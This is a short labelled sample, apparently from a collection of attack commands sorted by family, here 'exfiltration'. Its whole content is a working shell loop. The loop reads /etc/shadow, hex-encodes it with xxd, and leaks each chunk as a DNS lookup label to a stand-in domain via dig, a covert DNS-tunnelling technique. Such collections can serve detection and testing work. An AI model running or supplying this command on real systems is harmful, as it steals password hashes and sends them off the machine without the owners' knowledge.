# description: Leaks /etc/shadow hex-encoded as DNS labels queried with dig.
# family: exfiltration
xxd -p /etc/shadow | while read -r chunk; do
  dig +short "${chunk}.x.example.com" >/dev/null
done
